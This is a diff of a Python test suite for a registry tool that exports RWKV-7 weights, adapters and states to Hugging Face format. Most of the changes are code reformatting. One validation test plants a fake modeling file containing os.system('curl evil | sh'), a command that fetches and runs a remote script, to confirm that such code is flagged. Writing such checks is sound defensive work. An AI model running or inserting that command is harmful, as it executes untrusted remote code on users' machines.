@@ -73,8 +73,12 @@ def world_base(tmp_path_factory) -> Path:
 def hf_registry(empty_registry, world_base, tmp_path):
     """A registry with a world-vocabulary base and a full fine-tune on it (one shared storage, like official files)."""
     add_base(empty_registry, BaseRequest(path=world_base, filename=world_base.name, vocab="rwkv_vocab_v20230424.txt"))
-    full = save_checkpoint(tmp_path / "rwkv-final.pth", share_storage(make_base_state_dict(TinySpec(**{**WORLD.__dict__, "seed": 5}))))
-    entry = add_weight(empty_registry, AddRequest(full, world_base.name[:-4], "full", "v1.0", train_json(tmp_path / "f.json")))
+    full = save_checkpoint(
+        tmp_path / "rwkv-final.pth", share_storage(make_base_state_dict(TinySpec(**{**WORLD.__dict__, "seed": 5})))
+    )
+    entry = add_weight(
+        empty_registry, AddRequest(full, world_base.name[:-4], "full", "v1.0", train_json(tmp_path / "f.json"))
+    )
     return empty_registry, entry
 
 
@@ -95,10 +99,23 @@ def test_full_export_is_exact_sharded_listed_and_valid(hf_registry):
     describe(root, Target(path=entry.path), Description(stop_tokens=(0, 261), stop_texts=("\n\nUser:",)))
     export = export_hf(root, ExportRequest(entry=entry.path, shard_size=SHARD))
     folder = root / export.path
-    assert export.path == entry.path.rsplit("/", 1)[0] + "/hf" and export.source == entry.path and export.source_sha256 == entry.sha256
+    assert (
+        export.path == entry.path.rsplit("/", 1)[0] + "/hf"
+        and export.source == entry.path
+        and export.source_sha256 == entry.sha256
+    )
     names = {p.name for p in folder.iterdir()}
-    assert {"config.json", "generation_config.json", "tokenizer.json", "tokenizer_config.json", "model.safetensors.index.json", "rwkv_vocab_v20230424.txt"} <= names
-    assert (folder / "rwkv_vocab_v20230424.txt").read_bytes() == world_vocab_file().read_bytes()  # what llama.cpp's converter reads
+    assert {
+        "config.json",
+        "generation_config.json",
+        "tokenizer.json",
+        "tokenizer_config.json",
+        "model.safetensors.index.json",
+        "rwkv_vocab_v20230424.txt",
+    } <= names
+    assert (
+        folder / "rwkv_vocab_v20230424.txt"
+    ).read_bytes() == world_vocab_file().read_bytes()  # what llama.cpp's converter reads
     assert len([n for n in names if n.endswith(".safetensors")]) > 1
     assert {f.path for f in export.files} == {f"{export.path}/{n}" for n in names}
     sums = parse_sums((root / SUMS_NAME).read_bytes())
@@ -113,10 +130,17 @@ def test_full_export_is_exact_sharded_listed_and_valid(hf_registry):
     for rule in rules(WORLD.n_layer):
         want = source[rule.source].t() if rule.transform == "transpose" else source[rule.source]
         assert written[rule.target].dtype == want.dtype and _bytes(written[rule.target]) == _bytes(want), rule
-    assert set(written) == {r.target for r in rules(WORLD.n_layer)}  # layer 0's unused v0/v1/v2 are all that is left out
+    assert set(written) == {
+        r.target for r in rules(WORLD.n_layer)
+    }  # layer 0's unused v0/v1/v2 are all that is left out
 
     config = json.loads((folder / "config.json").read_text())
-    assert config["model_type"] == "rwkv7" and config["hidden_size"] == 128 and config["num_hidden_layers"] == 2 and config["head_dim"] == 64
+    assert (
+        config["model_type"] == "rwkv7"
+        and config["hidden_size"] == 128
+        and config["num_hidden_layers"] == 2
+        and config["head_dim"] == 64
+    )
     assert config["vocab_size"] == 65536 and config["intermediate_size"] == 512 and config["dtype"] == "bfloat16"
     assert {config[k] for k in ("decay_low_rank_dim", "a_low_rank_dim", "gate_low_rank_dim")} == {32}
     generation = json.loads((folder / "generation_config.json").read_text())
@@ -132,11 +156,21 @@ def test_the_card_shows_the_from_pretrained_snippet_of_each_export(hf_registry):
     assert "AutoModelForCausalLM" not in card and "does not include a Transformers config" in card
     export = export_hf(root, ExportRequest(entry=entry.path, shard_size=SHARD))
     card = (root / "README.md").read_text()
-    assert f'subfolder="{export.path}", dtype="bfloat16"' in card and f'AutoTokenizer.from_pretrained(repo, subfolder="{export.path}")' in card
-    assert "import fla" in card and "stop_strings=['\\n\\nUser:']" in card and "does not include a Transformers config" not in card
+    assert (
+        f'subfolder="{export.path}", dtype="bfloat16"' in card
+        and f'AutoTokenizer.from_pretrained(repo, subfolder="{export.path}")' in card
+    )
+    assert (
+        "import fla" in card
+        and "stop_strings=['\\n\\nUser:']" in card
+        and "does not include a Transformers config" not in card
+    )
     # what runs where, and why the stop text goes to generate rather than generation_config.json
-    assert "Transformers needs flash-linear-attention (`import fla` registers RWKV-7) and a CUDA GPU" in card and "On a CPU, load the `.pth` with the official `rwkv` package" in card
-    assert "so a plain `model.generate(ids)` runs too; the stop text `\"\\n\\nUser:\"` spans several tokens" in card
+    assert (
+        "Transformers needs flash-linear-attention (`import fla` registers RWKV-7) and a CUDA GPU" in card
+        and "On a CPU, load the `.pth` with the official `rwkv` package" in card
+    )
+    assert 'so a plain `model.generate(ids)` runs too; the stop text `"\\n\\nUser:"` spans several tokens' in card
     assert validate(root) == []
 
 
@@ -146,7 +180,9 @@ def test_runtime_reading_the_export_back_gives_the_pth_logits_exactly(hf_registr
     original = Rwkv7.from_path(root / entry.path)
     exported = Rwkv7(read_export(root / export.path))
     pairs = zip(exported.stored_weights().values(), original.stored_weights().values(), strict=True)
-    assert all(a.stride() == b.stride() and torch.equal(a, b) for a, b in pairs)  # same bytes, same layout (CUDA GEMMs depend on it)
+    assert all(
+        a.stride() == b.stride() and torch.equal(a, b) for a, b in pairs
+    )  # same bytes, same layout (CUDA GEMMs depend on it)
     for prompt in PROMPTS.values():
         ids = trie_tokenizer().encode(prompt)
         assert torch.equal(exported.forward(ids, full_output=True)[0], original.forward(ids, full_output=True)[0])
@@ -212,7 +248,12 @@ def test_the_longest_match_pattern_prefers_the_longest_token():
     import re
 
     pattern = re.compile(longest_match_pattern(["a", "ab", "abc", "b", "c", "bcd", "d"]))
-    assert [m.group() for m in pattern.finditer("abcdabd")] == ["abc", "d", "ab", "d"]  # greedy from the left, never "a" + "bcd"
+    assert [m.group() for m in pattern.finditer("abcdabd")] == [
+        "abc",
+        "d",
+        "ab",
+        "d",
+    ]  # greedy from the left, never "a" + "bcd"
 
 
 def test_base_export_needs_the_registered_file(hf_registry, world_base, tmp_path):
@@ -222,7 +263,11 @@ def test_base_export_needs_the_registered_file(hf_registry, world_base, tmp_path
     before = snapshot(root)
     with pytest.raises(RegistryError) as refused:
         export_hf(root, ExportRequest(base=name, base_file=other))
-    assert refused.value.code == "export.wrong-base-file" and refused.value.file == str(other) and "pass the file registered as" in refused.value.fix
+    assert (
+        refused.value.code == "export.wrong-base-file"
+        and refused.value.file == str(other)
+        and "pass the file registered as" in refused.value.fix
+    )
     assert snapshot(root) == before
     export = export_hf(root, ExportRequest(base=name, base_file=world_base))
     assert export.path == f"{name}/hf" and export.source == name and validate(root) == []
@@ -253,7 +298,9 @@ def _refused(root: Path, request: ExportRequest) -> RegistryError:
 
 def _state_entry(root: Path, world_base: Path, tmp_path: Path, name: str = "s1224", seed: int = 1):
     state = make_state_file(tmp_path / f"{name}.pth", WORLD, seed=seed)
-    return add_weight(root, AddRequest(state, world_base.name[:-4], "state", "v1.41", train_json(tmp_path / f"{name}.json"))), state
+    return add_weight(
+        root, AddRequest(state, world_base.name[:-4], "state", "v1.41", train_json(tmp_path / f"{name}.json"))
+    ), state
 
 
 def _exported_state(root: Path, world_base: Path, tmp_path: Path):
@@ -281,7 +328,9 @@ def test_a_state_exports_as_flas_initial_recurrent_state(hf_registry, world_base
     other, _ = _state_entry(root, world_base, tmp_path, "s1374", seed=2)
     second = export_hf(root, ExportRequest(entry=other.path))
     assert (export.path, second.path) == (f"{name}/state/v1.41/hf/s1224", f"{name}/state/v1.41/hf/s1374")
-    assert [f.path for f in export.files] == [f"{export.path}/initial_state.safetensors"] and export.source_sha256 == entry.sha256
+    assert [f.path for f in export.files] == [
+        f"{export.path}/initial_state.safetensors"
+    ] and export.source_sha256 == entry.sha256
     loaded = load_file(root / export.files[0].path)
     time_state = torch.load(state, weights_only=True)
     assert set(loaded) == {f"model.layers.{i}.attn.recurrent_state" for i in range(WORLD.n_layer)}
@@ -310,7 +359,9 @@ def test_flas_reference_recurrence_from_the_exported_state_is_ours_from_the_stat
 
     steps, heads, size = 24, WORLD.n_head, WORLD.head_size
     (r, w, k, v, a, b), _ = make_wkv7_inputs(1, steps, heads, head_size=size, seed=5)
-    time_state = {name: t * 10 for name, t in make_state_tensors(WORLD, seed=4, dtype=torch.float32).items()}  # strong: it dominates 24 steps
+    time_state = {
+        name: t * 10 for name, t in make_state_tensors(WORLD, seed=4, dtype=torch.float32).items()
+    }  # strong: it dominates 24 steps
     start = time_state["blocks.0.att.time_state"][None]
     want, want_final = wkv7_reference(r, w, k, v, a, b, start.clone())
 
@@ -319,11 +370,15 @@ def test_flas_reference_recurrence_from_the_exported_state_is_ours_from_the_stat
 
     def fla_run(initial: torch.Tensor) -> tuple[torch.Tensor, torch.Tensor]:
         q = per_head(r) * size**0.5  # RWKV-7 has no 1/sqrt(K) on r; dplr_recurrence applies one
-        out, final = dplr_recurrence(q, per_head(k), per_head(v), per_head(a), per_head(b), -torch.exp(per_head(w)), initial_state=initial)
+        out, final = dplr_recurrence(
+            q, per_head(k), per_head(v), per_head(a), per_head(b), -torch.exp(per_head(w)), initial_state=initial
+        )
         return out.transpose(1, 2).reshape(1, steps, heads * size), final
 
     got, got_final = fla_run(fla_state(time_state)[tensor_name(0)][None])
-    assert torch.allclose(got, want, rtol=1e-4, atol=1e-4) and torch.allclose(got_final, want_final.transpose(-1, -2), rtol=1e-4, atol=1e-4)
+    assert torch.allclose(got, want, rtol=1e-4, atol=1e-4) and torch.allclose(
+        got_final, want_final.transpose(-1, -2), rtol=1e-4, atol=1e-4
+    )
     untransposed, _ = fla_run(start)
     assert float((untransposed - want).abs().max()) > 1.0
 
@@ -339,7 +394,11 @@ def test_a_state_export_that_no_longer_fits_is_found_by_validate(hf_registry, wo
     path.write_bytes(safetensors_bytes(tensors, {"source_sha256": entry.sha256}))
     _relisted(root, export.files[0].path)
     messages = [p.message for p in validate(root) if p.code == "export.invalid"]
-    assert any("model.layers.1.attn.recurrent_state is BF16 (2, 64, 64), but the recurrent state of the base export's config.json is F32 (2, 64, 64)" in m for m in messages), messages
+    assert any(
+        "model.layers.1.attn.recurrent_state is BF16 (2, 64, 64), but the recurrent state of the base export's config.json is F32 (2, 64, 64)"
+        in m
+        for m in messages
+    ), messages
 
 
 def test_an_adapter_or_state_export_refuses_a_base_export_edited_after_its_record(hf_registry, world_base, tmp_path):
@@ -350,7 +409,11 @@ def test_an_adapter_or_state_export_refuses_a_base_export_edited_after_its_recor
     config = root / name / "hf" / "config.json"
     config.write_text(config.read_text().replace('"num_hidden_layers": 2', '"num_hidden_layers": 3'))
     refused = _refused(root, ExportRequest(entry=entry.path))
-    assert refused.code == "export.base-export-changed" and refused.file == f"{name}/hf/config.json" and "--force" in refused.fix
+    assert (
+        refused.code == "export.base-export-changed"
+        and refused.file == f"{name}/hf/config.json"
+        and "--force" in refused.fix
+    )
 
 
 def test_a_state_misfit_says_what_is_missing_extra_or_wrong_in_layer_order():
@@ -359,9 +422,19 @@ def test_a_state_misfit_says_what_is_missing_extra_or_wrong_in_layer_order():
     config = {"head_dim": 64, "hidden_size": 128, "num_hidden_layers": 12}
     good = {f"model.layers.{i}.attn.recurrent_state": ((2, 64, 64), "F32") for i in range(12)}
     assert misfit(config, good) is None
-    lacking = {k: v for k, v in good.items() if k not in ("model.layers.2.attn.recurrent_state", "model.layers.10.attn.recurrent_state")}
-    assert misfit(config, lacking) == "initial_state.safetensors lacks model.layers.2.attn.recurrent_state (the F32 (2, 64, 64) recurrent state of the base export's config.json)"
-    assert misfit(config, {**good, "zzz": ((1,), "F32")}) == "initial_state.safetensors holds zzz, which is not a recurrent state of the base export's config.json"
+    lacking = {
+        k: v
+        for k, v in good.items()
+        if k not in ("model.layers.2.attn.recurrent_state", "model.layers.10.attn.recurrent_state")
+    }
+    assert (
+        misfit(config, lacking)
+        == "initial_state.safetensors lacks model.layers.2.attn.recurrent_state (the F32 (2, 64, 64) recurrent state of the base export's config.json)"
+    )
+    assert (
+        misfit(config, {**good, "zzz": ((1,), "F32")})
+        == "initial_state.safetensors holds zzz, which is not a recurrent state of the base export's config.json"
+    )
 
 
 def test_the_card_shows_generation_from_the_exported_state(hf_registry, world_base, tmp_path):
@@ -374,13 +447,19 @@ def test_the_card_shows_generation_from_the_exported_state(hf_registry, world_ba
     assert f"subfolder={json.dumps(f'{name}/hf')}" in section and "from fla.models.utils import Cache" in section
     assert f"hf_hub_download(repo, {json.dumps(export.path + '/initial_state.safetensors')})" in section
     assert "past_key_values=initial_state()" in section and "PeftModel" not in section
-    assert '"transformers>=5,<5.24"' in section  # 5.24 and later hand generate's cache to fla as `cache=`, which it refuses
+    assert (
+        '"transformers>=5,<5.24"' in section
+    )  # 5.24 and later hand generate's cache to fla as `cache=`, which it refuses
     ast.parse(section[section.index("```python\n") + len("```python\n") :])  # the snippet is Python
 
 
 @pytest.mark.parametrize(
     ("case", "message", "fix"),
-    [("head32", "head size 32", "head size 64"), ("no-gate-lora", "missing blocks.1.att.g1", "all four LoRA blocks"), ("one-layer", "has 1 layer", "publish the .pth")],
+    [
+        ("head32", "head size 32", "head size 64"),
+        ("no-gate-lora", "missing blocks.1.att.g1", "all four LoRA blocks"),
+        ("one-layer", "has 1 layer", "publish the .pth"),
+    ],
 )
 def test_shapes_no_fla_configuration_has_are_refused(empty_registry, tmp_path, case, message, fix):
     if case == "head32":
@@ -391,9 +470,16 @@ def test_shapes_no_fla_configuration_has_are_refused(empty_registry, tmp_path, c
         tensors = make_base_state_dict(WORLD)
         del tensors["blocks.1.att.g1"], tensors["blocks.1.att.g2"]
     base_file = save_checkpoint(tmp_path / "rwkv7-odd-20260101.pth", tensors)
-    add_base(empty_registry, BaseRequest(path=None, filename=base_file.name, sha256=sha256_of(base_file)))  # declared by hash: add-base's own checks aside
+    add_base(
+        empty_registry, BaseRequest(path=None, filename=base_file.name, sha256=sha256_of(base_file))
+    )  # declared by hash: add-base's own checks aside
     error = _refused(empty_registry, ExportRequest(base="rwkv7-odd-20260101", base_file=base_file))
-    assert error.code == "export.not-fla" and error.file == str(base_file) and message in error.message and fix in error.fix
+    assert (
+        error.code == "export.not-fla"
+        and error.file == str(base_file)
+        and message in error.message
+        and fix in error.fix
+    )
 
 
 def test_fla_plan_refuses_a_rank_that_differs_between_layers():
@@ -422,27 +508,47 @@ def test_a_forced_export_removes_the_files_it_no_longer_writes(hf_registry):
     old_shards = sorted(p.name for p in (root / sharded.path).glob("model-*.safetensors"))
     assert len(old_shards) > 1
     error = _refused(root, ExportRequest(entry=entry.path))
-    assert error.code == "export.stale-files" and error.file == f"{sharded.path}/{old_shards[0]}" and "--force" in error.fix
+    assert (
+        error.code == "export.stale-files"
+        and error.file == f"{sharded.path}/{old_shards[0]}"
+        and "--force" in error.fix
+    )
     for foreign in ("scratch/", "notes.txt"):  # no export lists them: never deleted, even forced
-        (root / sharded.path / "scratch").mkdir() if foreign.endswith("/") else (root / sharded.path / foreign).write_text("mine")
+        (root / sharded.path / "scratch").mkdir() if foreign.endswith("/") else (
+            root / sharded.path / foreign
+        ).write_text("mine")
         write_sums(root)
         refused = _refused(root, ExportRequest(entry=entry.path, force=True))
-        assert refused.code == "export.stale-files" and refused.file == f"{sharded.path}/{foreign.rstrip('/')}" and "move it out" in refused.fix
-        shutil.rmtree(root / sharded.path / "scratch") if foreign.endswith("/") else (root / sharded.path / foreign).unlink()
+        assert (
+            refused.code == "export.stale-files"
+            and refused.file == f"{sharded.path}/{foreign.rstrip('/')}"
+            and "move it out" in refused.fix
+        )
+        shutil.rmtree(root / sharded.path / "scratch") if foreign.endswith("/") else (
+            root / sharded.path / foreign
+        ).unlink()
         write_sums(root)
     one = export_hf(root, ExportRequest(entry=entry.path, force=True))
     assert sorted(p.name for p in (root / one.path).iterdir()) == sorted(Path(f.path).name for f in one.files)
-    assert "model.safetensors" in {Path(f.path).name for f in one.files} and not set(old_shards) & {p.name for p in (root / one.path).iterdir()}
+    assert "model.safetensors" in {Path(f.path).name for f in one.files} and not set(old_shards) & {
+        p.name for p in (root / one.path).iterdir()
+    }
     assert validate(root) == [] and list((root / ".registry" / "staging").iterdir()) == []
 
 
 def test_a_vocabulary_other_than_the_recorded_one_is_refused(empty_registry, world_base, small_base):
     add_base(empty_registry, BaseRequest(path=world_base, filename=world_base.name, vocab="rwkv_vocab_v20220101.txt"))
     error = _refused(empty_registry, ExportRequest(base=world_base.name[:-4], base_file=world_base))
-    assert error.code == "export.vocab-mismatch" and error.file == "index.json" and "rwkv_vocab_v20220101" in error.message
+    assert (
+        error.code == "export.vocab-mismatch" and error.file == "index.json" and "rwkv_vocab_v20220101" in error.message
+    )
     add_base(empty_registry, BaseRequest(path=small_base, filename=small_base.name, vocab="rwkv_vocab_v20230424.txt"))
     error = _refused(empty_registry, ExportRequest(base=small_base.name[:-4], base_file=small_base))
-    assert error.code == "export.vocab-mismatch" and error.file == str(small_base) and f"{SMALL.vocab_size} token embeddings" in error.message
+    assert (
+        error.code == "export.vocab-mismatch"
+        and error.file == str(small_base)
+        and f"{SMALL.vocab_size} token embeddings" in error.message
+    )
 
 
 # ----------------------------------------------------------------------------------------------
@@ -463,10 +569,14 @@ def test_cli_json_help_usage_and_missing_extra(hf_registry, monkeypatch):
     assert runner.invoke(main, ["export-hf", "--help"]).exit_code == 0
     usage = runner.invoke(main, ["export-hf", "-C", str(root), "--json"])
     assert usage.exit_code == 2 and json.loads(usage.stdout)["ok"] is False
-    refused = runner.invoke(main, ["export-hf", "--base", "nope", "--base-file", str(root / entry.path), "-C", str(root), "--json"])
+    refused = runner.invoke(
+        main, ["export-hf", "--base", "nope", "--base-file", str(root / entry.path), "-C", str(root), "--json"]
+    )
     assert refused.exit_code == 3 and json.loads(refused.stdout)["problems"][0]["code"] == "export.unknown-base"
     missing = _as_registry_error(ModuleNotFoundError("No module named 'transformers'", name="transformers"))
-    assert missing is not None and missing.code == "install.needs-hf" and missing.fix == "pip install 'rwkv-registry[hf]'"
+    assert (
+        missing is not None and missing.code == "install.needs-hf" and missing.fix == "pip install 'rwkv-registry[hf]'"
+    )
 
 
 def test_the_command_keeps_flas_notices_off_stderr(hf_registry):
@@ -508,7 +618,9 @@ def test_a_miss_adapter_exports_for_peft_and_peft_merges_it_bit_exactly_as_we_do
     base_sha = Repo.open(root).load_index().bases[0].sha256
     name = world_base.name[:-4]
     adapter = make_adapter_file(tmp_path / "adapter-final.pth", WORLD, base_sha, rank=24, scale=0.37)
-    entry = add_weight(root, AddRequest(adapter, name, "miss", "v2.1", train_json(tmp_path / "m.json"), run="r24-lr2e-5"))
+    entry = add_weight(
+        root, AddRequest(adapter, name, "miss", "v2.1", train_json(tmp_path / "m.json"), run="r24-lr2e-5")
+    )
 
     refused = _refused(root, ExportRequest(entry=entry.path))
     assert refused.code == "export.no-base-export" and f"--base {name}" in refused.fix
@@ -555,7 +667,9 @@ def test_a_peft_export_that_no_longer_fits_is_found_by_validate(hf_registry, wor
     config_path.write_text(json.dumps(config))
     _relisted(root, f"{export.path}/adapter_config.json")
     messages = [p.message for p in validate(root) if p.code == "export.invalid" and p.file == export.path]
-    assert any("miss_block is F32 (16, 128), but the miss_block its config makes is F32 (8, 128)" in m for m in messages), messages
+    assert any(
+        "miss_block is F32 (16, 128), but the miss_block its config makes is F32 (8, 128)" in m for m in messages
+    ), messages
 
 
 def test_the_card_shows_the_peft_snippet_for_an_exported_adapter(hf_registry, world_base, tmp_path):
@@ -585,12 +699,16 @@ def exported_template(tmp_path_factory, world_base) -> tuple[Path, str]:
     tmp = tmp_path_factory.mktemp("exported")
     root = init_registry(tmp / "reg").root
     add_base(root, BaseRequest(path=world_base, filename=world_base.name, vocab="rwkv_vocab_v20230424.txt"))
-    full = save_checkpoint(tmp / "rwkv-final.pth", share_storage(make_base_state_dict(TinySpec(**{**WORLD.__dict__, "seed": 5}))))
+    full = save_checkpoint(
+        tmp / "rwkv-final.pth", share_storage(make_base_state_dict(TinySpec(**{**WORLD.__dict__, "seed": 5})))
+    )
     entry = add_weight(root, AddRequest(full, world_base.name[:-4], "full", "v1.0", train_json(tmp / "f.json")))
     export = export_hf(root, ExportRequest(entry=entry.path, shard_size=SHARD))
     export_hf(root, ExportRequest(base=world_base.name[:-4], base_file=world_base))
     adapter = make_adapter_file(tmp / "a.pth", WORLD, sha256_of(world_base), rank=8)
-    miss = add_weight(root, AddRequest(adapter, world_base.name[:-4], "miss", "v2.1", train_json(tmp / "m.json"), run="r8"))
+    miss = add_weight(
+        root, AddRequest(adapter, world_base.name[:-4], "miss", "v2.1", train_json(tmp / "m.json"), run="r8")
+    )
     export_hf(root, ExportRequest(entry=miss.path))
     assert validate(root) == []
     return root, export.path
@@ -607,7 +725,10 @@ def _list_in_export(root: Path, folder: str, name: str) -> None:
     index = json.loads((root / "index.json").read_text())
     export = next(e for e in index["exports"] if e["path"] == folder)
     rel = f"{folder}/{name}"
-    export["files"] = sorted([*export["files"], {"path": rel, "sha256": sha256_of(root / rel), "size": (root / rel).stat().st_size}], key=lambda f: f["path"])
+    export["files"] = sorted(
+        [*export["files"], {"path": rel, "sha256": sha256_of(root / rel), "size": (root / rel).stat().st_size}],
+        key=lambda f: f["path"],
+    )
     (root / "index.json").write_text(json.dumps(index, indent=2, ensure_ascii=False) + "\n")
     write_sums(root)
 
@@ -643,14 +764,21 @@ def test_a_python_file_in_an_export_fails_validate(exported_template, tmp_path):
     (root / folder / "modeling_rwkv7.py").write_text("import os\nos.system('curl evil | sh')\n")
     _list_in_export(root, folder, "modeling_rwkv7.py")
     found = [p for p in validate(root) if p.code == "export.invalid"]
-    assert len(found) == 1 and "lists modeling_rwkv7.py (code that trust_remote_code would run), which export-hf never writes" in found[0].message
+    assert (
+        len(found) == 1
+        and "lists modeling_rwkv7.py (code that trust_remote_code would run), which export-hf never writes"
+        in found[0].message
+    )
 
 
 def test_a_tampered_peft_config_fails_validate(exported_template, tmp_path):
     root = Path(shutil.copytree(exported_template[0], tmp_path / "reg"))
     index = Repo.open(root).load_index()
     folder = next(e.path for e in index.exports if "/miss/" in e.path)
-    _edit_json(root / folder / "adapter_config.json", lambda d: d.update(base_model_name_or_path="someone/else", auto_map={"x": "y"}))
+    _edit_json(
+        root / folder / "adapter_config.json",
+        lambda d: d.update(base_model_name_or_path="someone/else", auto_map={"x": "y"}),
+    )
     _relisted(root, f"{folder}/adapter_config.json")
     found = [p for p in validate(root) if p.code == "export.invalid" and p.file == folder]
     assert len(found) == 1 and "adapter_config.json has 'auto_map'" in found[0].message, found
@@ -662,8 +790,16 @@ def test_a_deeply_nested_config_in_an_export_is_one_line_and_validate_needs_no_t
     (root / folder / "config.json").write_text("[" * 100_000 + "]" * 100_000)
     _relisted(root, f"{folder}/config.json")
     probe = "import atexit, sys; atexit.register(lambda: print('TORCH' if 'torch' in sys.modules else 'NO-TORCH', file=sys.stderr)); from registry.cli import main; main()"
-    result = subprocess.run([sys.executable, "-c", probe, "validate", "-C", str(root)], capture_output=True, text=True, env=user_environment(), timeout=300)
-    assert result.returncode == 1 and "Traceback" not in result.stderr and result.stderr.strip().endswith("NO-TORCH"), result.stderr
+    result = subprocess.run(
+        [sys.executable, "-c", probe, "validate", "-C", str(root)],
+        capture_output=True,
+        text=True,
+        env=user_environment(),
+        timeout=300,
+    )
+    assert result.returncode == 1 and "Traceback" not in result.stderr and result.stderr.strip().endswith("NO-TORCH"), (
+        result.stderr
+    )
     line = next(line for line in result.stdout.splitlines() if line.startswith("export.invalid"))
     assert "config.json: arrays and objects nest more than 64 levels deep" in line
 
